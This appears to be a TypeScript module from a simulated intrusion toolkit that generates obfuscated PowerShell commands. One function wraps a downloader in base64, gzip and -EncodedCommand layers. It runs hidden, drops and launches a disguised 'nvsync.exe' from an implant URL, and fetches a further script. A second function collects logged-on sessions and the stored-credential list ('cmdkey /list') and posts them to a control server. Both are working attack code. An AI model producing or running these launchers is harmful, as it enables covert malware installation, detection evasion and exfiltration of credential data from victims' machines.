import { intruderNames } from '../company/addresses.ts';
import { encodePowerShell, gzipBase64 } from '../encode.ts';
import { implantUrl, scriptUrl } from './cast.ts';

/**
 * The first script, in three layers: `-EncodedCommand` (UTF-16 in base64) holds a loader, the loader a
 * gzip file in base64, and that the addresses, again in base64. None of it does anything by itself.
 */
export function encodedLauncher(): string {
  const inner = [
    `$u = [Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('${btoa(scriptUrl)}'))`,
    `$b = [Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('${btoa(implantUrl)}'))`,
    '$w = New-Object Net.WebClient',
    "$w.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) Update/1.3')",
    '$d = Join-Path $env:APPDATA NvSync',
    'New-Item -ItemType Directory -Force $d | Out-Null',
    "$w.DownloadFile($b, (Join-Path $d 'nvsync.exe'))",
    'Start-Process (Join-Path $d nvsync.exe)',
    '$w.DownloadString($u) | Out-Null',
  ].join('\r\n');
  const loader =
    '$s = New-Object IO.MemoryStream(,[Convert]::FromBase64String("' +
    `${gzipBase64(inner)}` +
    '")); IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,' +
    '[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()';
  return `powershell.exe -NoP -NonI -W Hidden -Enc ${encodePowerShell(loader)}`;
}

/** What WMI starts on the jump host: a listing of sessions that is sent to the control server. */
export function encodedListing(): string {
  const script =
    `$r = quser | Out-String; $r += (cmdkey /list | Out-String); ` +
    `Invoke-RestMethod -Method Post -Uri 'https://${intruderNames.control}/api/v2/report' -Body $r`;
  return `powershell.exe -NoP -Enc ${encodePowerShell(script)}`;
}
